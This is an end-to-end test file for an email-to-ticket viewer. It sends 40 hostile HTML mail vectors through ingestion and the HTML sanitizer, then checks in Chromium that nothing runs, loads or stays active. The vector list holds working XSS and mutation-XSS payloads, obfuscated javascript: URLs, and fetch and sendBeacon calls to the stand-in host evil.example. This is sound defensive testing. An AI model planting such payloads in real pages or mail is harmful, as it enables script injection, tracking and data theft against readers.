// Hostile HTML mail through the real path (ingestMessage on the local stack sanitizes what it stores;
// the viewer sanitizes it again for display) and then rendered by real Chromium WITHOUT the viewer's
// other two walls: no sandboxed frame, no CSP, JavaScript on. So what is proven here is the sanitizer
// alone: no script runs (no dialog, no page error, no console output), no request leaves the page (every
// request is routed and recorded), nothing navigates, and the DOM Chromium built holds no active part.
// tests/e2e/ticket-viewer-browser.test.ts proves the whole viewer (frame + CSP + sanitizer) on top.
import { readFile, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ClamdScanner } from '../../shared/adapters/clamav/clamd-scanner.js';
import { loadLocalConfig } from '../../shared/config.js';
import { ingestMessage } from '../../shared/domain/ingest.js';
import { sanitizeEmailHtmlForDisplay } from '../../shared/domain/sanitize.js';
import { showTicket } from '../../shared/domain/tickets.js';
import { openLocalStack, type LocalStack } from '../../shared/local/stack.js';
import { launchChromium } from '../support/browser.js';
import { clamdSocket } from '../support/clamd.js';
import { TEST_ACCESSOR } from '../support/memory.js';

const TENANT = 'default';
const MAILBOX = 'default';
/** The page's own origin; every other URL the page asks for is an escape. */
const PAGE = 'http://viewer.test/';
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

/**
 * Each vector carries its number in what it would do (alert(n), a request to evil.example/n) and a
 * visible `SEEN-n` so the test knows the document was really rendered. Scripts, event handlers,
 * javascript:/vbscript:/data: URLs in every spelling, CSS expressions and imports, remote images and
 * tracking pixels in every attribute that loads one, frames, forms, refreshes, base, and the classic
 * mutation-XSS shapes (foreign content, raw-text elements, comments, nested tags).
 */
const VECTORS: string[] = [
  `<script>alert(1)</script><p>SEEN-1</p>`,
  `<p>SEEN-2</p><img src=x onerror=alert(2)>`,
  `<p>SEEN-3</p><svg><script>alert(3)</script></svg>`,
  `<p>SEEN-4</p><svg onload=alert(4)><circle r=1></circle></svg>`,
  `<p>SEEN-5</p><math><mtext><table><mglyph><style><img src=x onerror=alert(5)></style></mglyph></table></mtext></math>`,
  `<p>SEEN-6</p><a href="javascript:alert(6)">a</a><a href="java&#x09;script:alert(6)">b</a><a href="&#x6A;avascript&#x3A;alert(6)">c</a><a href=" JaVaScRiPt:alert(6)">d</a><a href="vbscript:msgbox(6)">e</a><a href="data:text/html,&lt;script&gt;alert(6)&lt;/script&gt;">f</a>`,
  `<p>SEEN-7</p><iframe src="https://evil.example/7"></iframe><iframe srcdoc="&lt;script&gt;alert(7)&lt;/script&gt;"></iframe>`,
  `<p>SEEN-8</p><object data="https://evil.example/8.swf"></object><embed src="https://evil.example/8b.swf">`,
  `<style>@import 'https://evil.example/9.css'; body { background: url(https://evil.example/9.png) }</style><p>SEEN-9</p>`,
  `<div style="background:url(https://evil.example/10.png); width: expression(alert(10)); behavior: url(#default#time2); -moz-binding: url(https://evil.example/10.xml#x)">SEEN-10</div>`,
  `<p>SEEN-11</p><img src="https://t.example/open.gif?u=11" width="1" height="1" alt=""><img src="${PIXEL}" srcset="https://evil.example/11.png 1x" alt="x"><picture><source srcset="https://evil.example/11b.png"><img src="${PIXEL}" alt="y"></picture>`,
  `<p>SEEN-12</p><video poster="https://evil.example/12.png"><source src="https://evil.example/12.mp4"></video><audio src="https://evil.example/12.mp3" autoplay></audio>`,
  `<table background="https://evil.example/13.png"><tr><td background="https://evil.example/13b.png">SEEN-13</td></tr></table>`,
  `<link rel="stylesheet" href="https://evil.example/14.css"><link rel="prefetch" href="https://evil.example/14b"><p>SEEN-14</p>`,
  `<meta http-equiv="refresh" content="0; url=https://evil.example/15"><p>SEEN-15</p>`,
  `<base href="https://evil.example/16/"><p>SEEN-16</p><img src="relative.png" alt="r"><a href="relative">rel</a>`,
  `<form action="https://evil.example/17"><input type="image" src="https://evil.example/17.png"><button formaction="javascript:alert(17)">b</button></form><p>SEEN-17</p>`,
  `<details open ontoggle=alert(18)><summary>SEEN-18</summary></details>`,
  `<p>SEEN-19</p><input autofocus onfocus=alert(19)><select autofocus onfocus=alert(19)></select>`,
  `<marquee onstart=alert(20)>SEEN-20</marquee>`,
  `<p>SEEN-21</p><svg><animate onbegin=alert(21) attributeName=x dur=1s></animate><set attributeName=onmouseover to=alert(21)></set></svg>`,
  `<p>SEEN-22</p><svg><a xlink:href="javascript:alert(22)"><text x="5" y="15">x</text></a><image href="https://evil.example/22.png"></image></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(23)>"></noscript><p>SEEN-23</p>`,
  `<!--<img src="--><img src=x onerror=alert(24)//"><p>SEEN-24</p>`,
  `<scr<script>ipt>alert(25)</scr</script>ipt><p>SEEN-25</p>`,
  `<p>SEEN-26</p><img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(26)'&gt;&lt;/svg&gt;" alt="svg"><img src="${PIXEL}" onload=alert(26) alt="p">`,
  `<p>SEEN-27</p><a href="https://ok.example/27" ping="https://evil.example/27">ping</a><a href="https://ok.example/27b" target="_self" rel="opener">self</a>`,
  `<p>SEEN-28</p><a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(28)">x</a>`,
  `<table><tr><td background="javascript:alert(29)">SEEN-29</td></tr></table>`,
  `<xmp><img src=x onerror=alert(30)></xmp><textarea><img src=x onerror=alert(30)></textarea><title><img src=x onerror=alert(30)></title><p>SEEN-30</p>`,
  `<svg><style><img src=x onerror=alert(31)></style></svg><p>SEEN-31</p>`,
  `<p>SEEN-32</p><img src="https://evil.example/32.png" loading="lazy" alt=""><img src="//evil.example/32b.png" alt=""><img src=" https://evil.example/32c.png" alt="">`,
  `<isindex action="javascript:alert(33)" type="image"><keygen autofocus onfocus=alert(33)><p>SEEN-33</p>`,
  `<p dir="rtl" lang="en" onclick=alert(34) onmouseover=alert(34) tabindex=1>SEEN-34</p>`,
  `<div id="x" style="animation-name: a; animation-duration: 1s" onanimationstart=alert(35)>SEEN-35</div><style>@keyframes a {}</style>`,
  `<p>SEEN-36</p><a href="mailto:x@example.com?body=36">mail</a><img src="cid:part36@example" alt="cid">`,
  `<font face="Arial" color="red" style="background:url(https://evil.example/37.png)">SEEN-37</font><center><u><s>x</s></u></center>`,
  `<p>SEEN-38</p><svg><use href="https://evil.example/38.svg#x"></use><foreignObject><img src=x onerror=alert(38)></foreignObject></svg>`,
  `<p>SEEN-39</p><img src="x" onerror="fetch('https://evil.example/39')"><body onload="navigator.sendBeacon('https://evil.example/39b')">`,
  `<p>SEEN-40</p><portal src="https://evil.example/40"></portal><applet code="x"></applet><frameset><frame src="https://evil.example/40b"></frameset>`,
];

let dataDir: string;
let stack: LocalStack;
let browser: Browser;
let sequence = 0;

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'm2t-hostile-html-'));
  stack = await openLocalStack(loadLocalConfig({ MAIL2TICKET_DATA_DIR: dataDir }), { scanner: new ClamdScanner({ socketPath: clamdSocket() }) });
  await stack.deps.repo.putMailbox({ tenantId: TENANT, mailboxId: MAILBOX, provider: 'local', status: 'connected', createdAt: new Date().toISOString() });
  browser = await launchChromium();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await stack?.stop();
  if (dataDir) await rm(dataDir, { recursive: true, force: true });
}, 60_000);

function htmlMail(html: string): Buffer {
  return Buffer.from(
    [
      'From: "IT Service Desk" <mallory@example.net>',
      'To: support@helpdesk.example',
      `Subject: hostile ${++sequence}`,
      `Message-ID: <hostile-${sequence}@example.net>`,
      'Date: Tue, 01 Dec 2026 10:00:00 +0000',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(`<!DOCTYPE html><html><head></head><body>${html}</body></html>`).toString('base64').replace(/.{76}/g, '$&\r\n'),
      '',
    ].join('\r\n'),
  );
}

/** What the viewer would put in its frame: the body as ingested and stored, sanitized again for display. */
async function displayedBody(raw: Buffer): Promise<string> {
  const result = await ingestMessage(stack.deps, Readable.from([raw]), { tenantId: TENANT, mailboxId: MAILBOX, receivedAt: new Date() });
  expect(result.status).toBe('created');
  const ticket = await showTicket(stack.deps, TENANT, result.ticketId as string, TEST_ACCESSOR);
  const html = ticket.messages[0]?.html;
  expect(html, 'an HTML body was stored').toBeTypeOf('string');
  return sanitizeEmailHtmlForDisplay(html as string);
}

interface Rendered {
  /** Dialogs, page errors, console output, popups, navigations: anything a live script or refresh causes. */
  active: string[];
  /** Every URL the page asked for other than itself and data: URIs. */
  escapes: string[];
  /** Active parts left in the DOM Chromium built from the body. */
  dom: string[];
  text: string;
}

/** Renders the body as a top-level page, JavaScript on, no CSP, no sandbox, and pokes at every element. */
async function render(context: BrowserContext, body: string): Promise<Rendered> {
  const active: string[] = [];
  const escapes: string[] = [];
  const page: Page = await context.newPage();
  page.on('dialog', (dialog) => {
    active.push(`dialog: ${dialog.message()}`);
    // Recorded already; the dialog may be gone (its page closed, another dialog replaced it) before the
    // dismissal arrives, and Chromium's "No dialog is showing" then is no finding.
    dialog.dismiss().catch(() => undefined);
  });
  page.on('pageerror', (error) => active.push(`page error: ${error.message}`));
  page.on('console', (message) => active.push(`console: ${message.text()}`));
  page.on('popup', (popup) => active.push(`popup: ${popup.url()}`));
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame() && frame.url() !== PAGE) active.push(`navigated: ${frame.url()}`);
    if (frame !== page.mainFrame()) active.push(`frame: ${frame.url()}`);
  });
  page.on('request', (request) => {
    const url = request.url();
    if (url !== PAGE && !url.startsWith('data:') && url !== 'about:blank') escapes.push(url);
  });
  await page.route('**/*', (route) =>
    route.request().url() === PAGE
      ? route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: `<!doctype html><html><head><meta charset="utf-8"></head><body>${body}</body></html>` })
      : route.abort(),
  );
  await page.goto(PAGE, { waitUntil: 'load' });
  // Hand every element the events a handler would wait for, then leave timers and animations the time to fire.
  await page.evaluate(() => {
    const doc = (globalThis as unknown as { document: { querySelectorAll(s: string): ArrayLike<{ tagName: string; dispatchEvent(e: unknown): boolean; focus?: () => void }> } }).document;
    const EventCtor = (globalThis as unknown as { Event: new (type: string, init?: unknown) => unknown }).Event;
    for (const element of Array.from(doc.querySelectorAll('body *'))) {
      if (element.tagName === 'A') continue; // followed links are the reader's choice; their targets are checked below
      for (const type of ['click', 'mouseover', 'mouseenter', 'focus', 'toggle', 'animationstart', 'load', 'error']) element.dispatchEvent(new EventCtor(type, { bubbles: true }));
      element.focus?.();
    }
  });
  await page.waitForTimeout(400);
  const dom = await page.evaluate(() => {
    const doc = (globalThis as unknown as { document: { querySelectorAll(s: string): ArrayLike<{ tagName: string; attributes: ArrayLike<{ name: string; value: string }> }> } }).document;
    const found: string[] = [];
    const forbidden = new Set(['SCRIPT', 'IFRAME', 'FRAME', 'FRAMESET', 'OBJECT', 'EMBED', 'APPLET', 'PORTAL', 'BASE', 'META', 'LINK', 'STYLE', 'FORM', 'INPUT', 'BUTTON', 'TEXTAREA', 'SELECT', 'VIDEO', 'AUDIO', 'SOURCE', 'SVG', 'MATH', 'USE', 'IMAGE', 'ANIMATE', 'SET', 'FOREIGNOBJECT', 'MARQUEE', 'DETAILS', 'ISINDEX', 'KEYGEN']);
    for (const element of Array.from(doc.querySelectorAll('body *'))) {
      const tag = element.tagName.toUpperCase();
      if (forbidden.has(tag)) found.push(`<${tag.toLowerCase()}>`);
      for (const { name, value } of Array.from(element.attributes)) {
        const attr = name.toLowerCase();
        if (attr.startsWith('on') || ['style', 'srcset', 'background', 'poster', 'ping', 'formaction', 'action', 'xlink:href', 'data', 'srcdoc'].includes(attr)) found.push(`${tag.toLowerCase()}[${attr}]`);
        // A link may only lead to the web or to mail; an image only to data: bytes in the message.
        if (attr === 'href' && value !== '' && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`${tag.toLowerCase()}[href=${value}]`);
        if (attr === 'src' && !(tag === 'IMG' && /^data:image\//i.test(value))) found.push(`${tag.toLowerCase()}[src=${value}]`);
        if (attr === 'target' && value !== '_blank') found.push(`${tag.toLowerCase()}[target=${value}]`);
      }
    }
    return found;
  });
  const text = await page.locator('body').innerText();
  await page.close();
  return { active, escapes, dom, text };
}

describe('hostile HTML rendered by Chromium after sanitizing alone (no frame sandbox, no CSP, JavaScript on)', () => {
  let context: BrowserContext;
  beforeAll(async () => {
    context = await browser.newContext({ javaScriptEnabled: true });
  });
  afterAll(async () => {
    await context?.close();
  });

  it('the checker catches what it must: the same vectors unsanitized run scripts, make remote requests and leave active parts', async () => {
    const rendered = await render(context, VECTORS.slice(0, 14).join('\n'));
    expect(rendered.active.some((line) => line.startsWith('dialog:') || line.startsWith('navigated:'))).toBe(true);
    expect(rendered.escapes.some((url) => url.startsWith('https://evil.example/'))).toBe(true);
    expect(rendered.dom.length).toBeGreaterThan(0);
  }, 60_000);

  it(`${VECTORS.length} vectors (scripts, handlers, javascript: URLs, CSS expressions, remote images, tracking pixels, mutation XSS), each its own mail: nothing runs, nothing is requested, nothing active is left`, async () => {
    const failures: Record<string, Rendered> = {};
    for (const [index, vector] of VECTORS.entries()) {
      const rendered = await render(context, await displayedBody(htmlMail(vector)));
      expect(rendered.text, `vector ${index + 1} was rendered`).toContain(`SEEN-${index + 1}`);
      if (rendered.active.length || rendered.escapes.length || rendered.dom.length) failures[`vector ${index + 1}`] = rendered;
    }
    expect(failures).toEqual({});
  }, 180_000);

  it('all vectors in one mail, and the corpus’s html-hostile.eml: the same', async () => {
    const together = await render(context, await displayedBody(htmlMail(VECTORS.join('\n'))));
    expect(together.text).toContain(`SEEN-${VECTORS.length}`);
    expect({ active: together.active, escapes: together.escapes, dom: together.dom }).toEqual({ active: [], escapes: [], dom: [] });

    const fixture = await readFile(join(import.meta.dirname, '../fixtures/mail/html-hostile.eml'));
    const hostile = await render(context, await displayedBody(fixture));
    expect(hostile.text).toContain('PHRASE-HOSTILE-0b9e');
    expect({ active: hostile.active, escapes: hostile.escapes, dom: hostile.dom }).toEqual({ active: [], escapes: [], dom: [] });
  }, 60_000);
});
